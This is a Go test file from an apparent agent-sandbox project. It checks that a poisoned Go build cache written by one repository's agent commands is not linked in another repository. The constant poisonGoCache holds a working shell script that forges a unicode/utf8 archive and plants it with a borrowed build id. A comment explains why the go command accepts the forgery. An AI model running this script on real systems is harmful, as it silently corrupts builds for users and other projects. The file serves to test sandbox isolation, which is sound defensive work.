package tools

import (
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
)

// poisonGoCache is an agent's command that replaces, in a Go build cache
// it can write ($C, else go env GOCACHE), the compiled unicode/utf8 with
// one whose RuneLen('a') is 42: it finds the real archive's entry there
// or in the caches $U it reads (the user's), builds the changed package
// with an overlay, gives the archive the real action's build id, and
// points the real action's entry in $C at it (the go command checks an
// entry's size and the archive's build id, never its content's hash).
// Every Go-cache attack of this package plants through it.
const poisonGoCache = `set -e
C=${C:-$(go env GOCACHE)}
P=$(go list -export -f '{{.Export}}' unicode/utf8)
A=$(grep -rl "$(basename $P -d)" $C ${U:-} --include='*-a' | head -1)
test -n "$A"
REAL=$(head -c 400 $P | grep -a -o 'build id "[^/]*' | head -1 | cut -d'"' -f2)
mkdir -p /tmp/o && cp $(go env GOROOT)/src/unicode/utf8/utf8.go /tmp/o/utf8.go
sed -i 's/^func RuneLen(r rune) int {/func RuneLen(r rune) int {\n\tif r == 0x61 {\n\t\treturn 42\n\t}/' /tmp/o/utf8.go
echo "{\"Replace\":{\"$(go env GOROOT)/src/unicode/utf8/utf8.go\":\"/tmp/o/utf8.go\"}}" > /tmp/o/overlay.json
E=$(go list -overlay /tmp/o/overlay.json -export -f '{{.Export}}' unicode/utf8)
EVIL=$(head -c 400 $E | grep -a -o 'build id "[^/]*' | head -1 | cut -d'"' -f2)
perl -pi -e "s/\Q$EVIL\E/$REAL/g" $E
D=$C/$(basename $(dirname $A))
mkdir -p $D
printf 'v1 %s %s %20d %20d\n' $(basename $A -a) $(basename $E -d) $(stat -c %s $E) $(date +%s%N) > $D/$(basename $A)
echo poisoned`

// TestGoBuildCacheNotSharedAcrossRepositories (redteam s10, hole 04): a
// command in one repository plants a changed unicode/utf8 in the Go build
// cache it writes; a command in another repository that runs a program
// using it must not link it. (In its own repository the planted package
// is linked: that repository's commands are one trust domain.)
func TestGoBuildCacheNotSharedAcrossRepositories(t *testing.T) {
	if testing.Short() {
		t.Skip("builds the runtime when no build cache is warm: about a minute")
	}
	userCache := userGoCache(t)
	t.Setenv("GOCACHE", userCache) // the user's own, read-only to every command
	a := newAttackWorkspace(t)     // HOME (and so Autarch's own cache folder) is new
	other := filepath.Join(a.home, "src", "b")
	program := map[string]string{
		"main.go": "package main\n\nimport (\n\t\"fmt\"\n\t\"unicode/utf8\"\n)\n\nfunc main() { fmt.Println(\"RuneLen\", utf8.RuneLen('a')) }\n",
	}
	writeFiles(t, a.ws, map[string]string{"go.mod": "module example.com/a\n\ngo 1.22\n"})
	writeFiles(t, a.ws, program)
	writeFiles(t, other, map[string]string{
		"go.mod":      "module example.com/b\n\ngo 1.22\n",
		".git/HEAD":   "ref: refs/heads/main\n",
		".git/config": "[core]\n\tbare = false\n",
	})
	writeFiles(t, other, program)
	ha := newHarness(t, "pulsing", SessionConfig{Root: a.ws})
	hb := newHarness(t, "pulsing", SessionConfig{Root: other})
	run := func(h *harness, command string) string {
		t.Helper()
		return h.call("shell", map[string]any{"command": command, "reason": "test"}).Output
	}
	if res := run(ha, "export U="+userCache+"\n"+poisonGoCache); !strings.Contains(res, "poisoned") {
		t.Fatalf("the attack did not run in repository A: %s", res)
	}
	if res := run(ha, "go run ."); !strings.Contains(res, "RuneLen 42") {
		t.Fatalf("repository A's own go run did not link what its command planted (the attack is not real): %s", res)
	}
	res := run(hb, "go run .")
	if strings.Contains(res, "RuneLen 42") || !strings.Contains(res, "RuneLen 1") {
		t.Errorf("repository B's go run linked a package repository A's command planted in a build cache: %s", res)
	}
	// The user's own build, outside any sandbox, is untouched too.
	cmd := exec.Command("go", "run", ".")
	cmd.Dir = other
	cmd.Env = append(os.Environ(), "GOCACHE="+userCache, "GOFLAGS=")
	if out, err := cmd.CombinedOutput(); err != nil || !strings.Contains(string(out), "RuneLen 1") {
		t.Errorf("the user's own go run: %v: %s", err, out)
	}
}

// userGoCache is the user's Go build cache (go env GOCACHE), which the
// gate tests read under their own so that nothing compiles the standard
// library again.
func userGoCache(t *testing.T) string {
	t.Helper()
	out, err := exec.Command("go", "env", "GOCACHE").Output()
	if err != nil {
		t.Fatalf("go env GOCACHE: %v", err)
	}
	return strings.TrimSpace(string(out))
}
